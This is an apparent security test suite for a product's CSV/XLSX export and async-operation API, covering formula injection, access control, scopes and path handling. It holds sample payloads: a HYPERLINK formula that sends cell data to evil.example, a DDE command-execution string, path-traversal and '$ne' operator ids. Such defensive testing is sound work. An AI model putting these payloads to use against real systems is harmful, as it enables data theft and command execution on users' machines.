import { beforeAll, describe, expect, test } from 'bun:test';
import { type Operation, OperationStatus, type Page } from '@waypost/contract';
import { type Api, apiOf, seal } from '../api.ts';
import { download, endOf, readCsv, runOperation } from '../operations.ts';
import { makeRole, operatorWith, setRights } from './role-people.ts';
import { addCode, createKey, openWorld, until, type World, withStore } from './world.ts';

const LIMIT_MS = 180_000;
const ADDRESS = '203.0.113.77';
/** What a spreadsheet would run, as a name, a user agent and a referrer. */
const HOSTILE = [
  `=HYPERLINK("http://evil.example/?"&A1,"x")`,
  `+cmd|' /C calc'!A0`,
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '＝1+1',
];

let world: World;
let anna: string;
beforeAll(async () => {
  world = await openWorld();
  for (const name of HOSTILE) {
    const code = await addCode(world.anna, { name });
    const visit = await fetch(code.qr_url, {
      redirect: 'manual',
      headers: {
        'user-agent': name.trim().replace('＝', '='),
        'x-forwarded-for': ADDRESS,
        referer: 'https://=evil.example/',
      },
    });
    await visit.arrayBuffer();
  }
  const visitors = () => world.anna.call<Page<unknown>>('visitor/user_inquire', { search: ADDRESS });
  const seen = await until(
    async () => (await visitors()).content.count,
    (count) => count >= HOSTILE.length,
  );
  expect(seen).toBeGreaterThanOrEqual(HOSTILE.length);
  anna = (await runOperation(world.anna, 'visitor/export')).id;
}, LIMIT_MS);

describe('CSV/XLSX 1.2.10', () => {
  test(
    'no cell of an export runs in a spreadsheet, whatever people name codes or browsers send',
    async () => {
      const daily = await runOperation(world.anna, 'daily_statistics/export', {
        table: 'code',
        range: 'today',
      });
      const files = await Promise.all(
        [anna, daily.id].map(async (id) =>
          (await download(world.product.origin, world.anna.token, id)).text(),
        ),
      );
      let neutralised = 0;
      for (const text of files) {
        for (const cell of readCsv(text).flat()) {
          expect(cell).not.toMatch(/^[\s\0]*[=+@＝＋＠]/);
          expect(cell).not.toMatch(/^[\t\r\n\0]/);
          if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^\s*[-－]/);
          if (/^'\s*[=+\-@＝]/.test(cell)) neutralised += 1;
        }
      }
      // The names stand in both files, and the user agents in one.
      expect(neutralised).toBeGreaterThanOrEqual(2 * HOSTILE.length);
    },
    LIMIT_MS,
  );

  test('whoever acts as a customer takes nothing of theirs away', async () => {
    const { user_info } = (await world.anna.call<{ user_info: { id: string } }>('administrator/profile'))
      .content;
    const { token } = (await world.operator.call<{ token: string }>('user/act_as', { id: user_info.id }))
      .content;
    const answer = await download(world.product.origin, token, anna);
    expect([answer.status, ((await answer.json()) as { code: string }).code]).toEqual([
      403,
      'acting_refused',
    ]);
    expect((await download(world.product.origin, world.anna.token, anna)).status).toBe(200);
  });

  test('a result is sent to be saved, never to be shown', async () => {
    const answer = await download(world.product.origin, world.anna.token, anna);
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-disposition')).toStartWith('attachment;');
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    expect(answer.headers.get('cache-control')).toBe('no-store');
    expect(answer.headers.get('content-type')).toStartWith('text/csv');
    await answer.arrayBuffer();
  });
});

describe('IDOR 8.2.2', () => {
  test(
    'nobody but its owner gets a result: not another customer, not an agent, not an administrator',
    async () => {
      for (const thief of [world.ben, world.agent, world.operator, world.root, undefined]) {
        const answer = await download(world.product.origin, thief?.token, anna);
        expect(answer.status).toBe(thief === undefined ? 401 : 404);
        expect(await answer.text()).not.toContain(ADDRESS);
        if (thief === undefined) continue;
        const progress = await thief.call<{ operations: Operation[] }>('async_operations/progress', {
          ids: [anna],
        });
        expect(progress.content.operations).toEqual([]);
      }
      for (const thief of [world.ben, world.agent]) {
        for (const call of ['details', 'cancel', 'retry', 'remove'])
          expect([call, (await thief.call(`async_operations/${call}`, { id: anna })).status]).toEqual([
            call,
            404,
          ]);
        for (const call of ['inquire', 'user_inquire']) {
          const page = await thief.call<Page<Operation>>(`async_operations/${call}`, { page_size: 200 });
          expect(page.content.content.map(({ id }) => id)).not.toContain(anna);
        }
      }
      expect((await download(world.product.origin, world.anna.token, anna)).status).toBe(200);
    },
    LIMIT_MS,
  );

  test(
    'an export holds what its owner may see, also when more is asked for',
    async () => {
      const code = await addCode(world.anna, { name: 'Only hers' });
      for (const body of [{ own: false }, { link: code.id }, { search: ADDRESS }]) {
        const done = await runOperation(world.ben, 'visitor/export', body);
        const text = await (await download(world.product.origin, world.ben.token, done.id)).text();
        expect(text).not.toContain(ADDRESS);
      }
      const table = await runOperation(world.ben, 'daily_statistics/export', { own: false, table: 'code' });
      const text = await (await download(world.product.origin, world.ben.token, table.id)).text();
      expect(text).not.toContain('HYPERLINK');
    },
    LIMIT_MS,
  );

  test(
    'a list of an agent leaves with the own people alone, and a right taken away ends it',
    async () => {
      const mine = `subtree.${Date.now() % 100_000}`;
      const password = await seal(world.agent, 'Given123', 'user', 'add', 'password');
      expect((await world.agent.call('user/add', { account: mine, password })).status).toBe(200);
      const list = (area: string) => ({
        area,
        call: 'inquire',
        body: {},
        title: 'People',
        columns: [{ path: 'account', title: 'Account' }],
      });
      const done = await runOperation(world.agent, 'async_operations/export', list('user'));
      const text = await (await download(world.product.origin, world.agent.token, done.id)).text();
      const accounts = readCsv(text).slice(1).flat();
      expect(accounts).toContain(mine);
      for (const other of ['anna.security', 'ben.security']) expect(accounts).not.toContain(other);

      const rights = ['system.operation:read', 'system.operation:export'];
      const role = await makeRole(world.root, mine, [...rights, 'qr.code:read', 'qr.code:read_all']);
      const account = `${mine}.op`;
      const { api } = await operatorWith(world.product, world.root, { account, role });
      const codes = list('qr_code_list');
      expect(await runOperation(api, 'async_operations/export', codes)).toMatchObject({ status: 2 });
      await setRights(world.root, role, rights);
      expect((await api.call('async_operations/export', codes)).status).toBe(403);
    },
    LIMIT_MS,
  );

  test(
    'a list that was not written to its end is written again with the rights of who asks for it: a key has its scopes alone',
    async () => {
      const list = {
        area: 'qr_code_list',
        call: 'user_inquire',
        body: {},
        title: 'Codes',
        columns: [{ path: 'name', title: 'Name' }],
      };
      const keyOf = async (account: string, scopes: string) =>
        apiOf(
          world.product.origin,
          await createKey(world.product, ['--account', account, '--scopes', scopes]),
        );
      const stopped = await stoppedExport(world.anna, 'async_operations/export', list);
      for (const account of ['operator.security', 'anna.security']) {
        const key = await keyOf(account, 'system.operation:*');
        expect((await key.call('async_operations/retry', { id: stopped })).status).toBe(403);
      }
      const key = await keyOf('anna.security', 'system.operation:*,qr.code:*');
      for (const api of [key, world.operator]) {
        const again = await api.call<{ id: string }>('async_operations/retry', { id: stopped });
        expect(await endOf(api, again.content.id)).toMatchObject({ status: 2, error_code: null });
      }
    },
    LIMIT_MS,
  );

  test(
    'work that was not done to its end is repeated by whoever may begin it: the right to repeat alone is no other’s right',
    async () => {
      const stopped = await stoppedExport(world.anna, 'daily_statistics/export');
      const keyOf = async (scopes: string) => {
        const options = ['--account', 'anna.security', '--scopes', scopes];
        return apiOf(world.product.origin, await createKey(world.product, options));
      };
      const refused = await (await keyOf('system.operation:*')).call('async_operations/retry', {
        id: stopped,
      });
      expect(refused).toMatchObject({ status: 403, body: { code: 'forbidden' } });
      const key = await keyOf('system.operation:*,qr.visit:*');
      const again = await key.call<{ id: string }>('async_operations/retry', { id: stopped });
      expect(await endOf(key, again.content.id)).toMatchObject({ status: 2, error_code: null });
    },
    LIMIT_MS,
  );

  test(
    'what goes on is not removed from the list: whoever does it would go on with it, or nobody would tell that it ended',
    async () => {
      const { id } = await runOperation(world.anna, 'daily_statistics/export');
      const set = (change: object) =>
        withStore(world.product, (database) =>
          database.collection<{ _id: string }>('system_operation').updateOne({ _id: id }, { $set: change }),
        );
      const [going, completed] = [OperationStatus.inProgress, OperationStatus.completed];
      await set({ status: going, runner: 'another process', beat: new Date() });
      const remove = () => world.anna.call('async_operations/remove', { id });
      expect(await remove()).toMatchObject({
        status: 409,
        body: { code: 'operation_in_progress', message: 'It is still going on. Cancel it first.' },
      });
      await set({ status: completed, runner: null, beat: null });
      expect((await download(world.product.origin, world.anna.token, id)).status).toBe(200);
      expect((await remove()).status).toBe(200);
    },
    LIMIT_MS,
  );

  test('what names a file cannot leave its folder or reach the store as an operator', async () => {
    for (const id of [
      '../secret.key',
      `${anna}/../../secret.key`,
      { $ne: null },
      null,
      '',
      anna.toUpperCase(),
    ])
      for (const call of ['download', 'cancel', 'retry', 'remove', 'details'])
        expect((await world.anna.call(`async_operations/${call}`, { id })).status).toBe(422);
  });
});

describe('Routes 8.2.1', () => {
  test(
    'who may read but not export exports nothing, with a key either',
    async () => {
      const key = apiOf(
        world.product.origin,
        await createKey(world.product, ['--account', 'anna.security', '--scopes', 'qr.visit:read']),
      );
      expect((await key.call('daily_statistics/inquire')).status).toBe(200);
      for (const path of [
        'visitor/export',
        'stealing_list/export',
        'count_reconciliation/export',
        'daily_statistics/export',
        'pc_historical_statistics/export',
      ])
        for (const api of [key, world.readerKey]) expect((await api.call(path)).status).toBe(403);
      expect((await download(world.product.origin, world.readerKey.token, anna)).status).toBe(403);
      const started = await world.anna.call<{ id: string }>('daily_statistics/export');
      expect(started.status).toBe(202);
      await endOf(world.anna, started.content.id);
    },
    LIMIT_MS,
  );
});

/** Stopped before anything of it was kept. */
async function stoppedExport(api: Api, path: string, body: object = {}): Promise<string> {
  for (;;) {
    const { id } = (await api.call<{ id: string }>(path, body)).content;
    await api.call('async_operations/cancel', { id });
    const { status, kept_size } = await endOf(api, id);
    if (status === OperationStatus.abnormal && kept_size === null) return id;
  }
}

test('a client that is made from the description of the calls takes a result as the file that it is', async () => {
  const document = (await (await fetch(`${world.product.origin}/api/openapi.json`)).json()) as {
    paths: Record<string, { post: { responses: Record<string, { content: object }> } }>;
  };
  expect(document.paths['/api/async_operations/download']?.post.responses[200]?.content).toEqual({
    '*/*': { schema: { type: 'string', format: 'binary' } },
  });
});
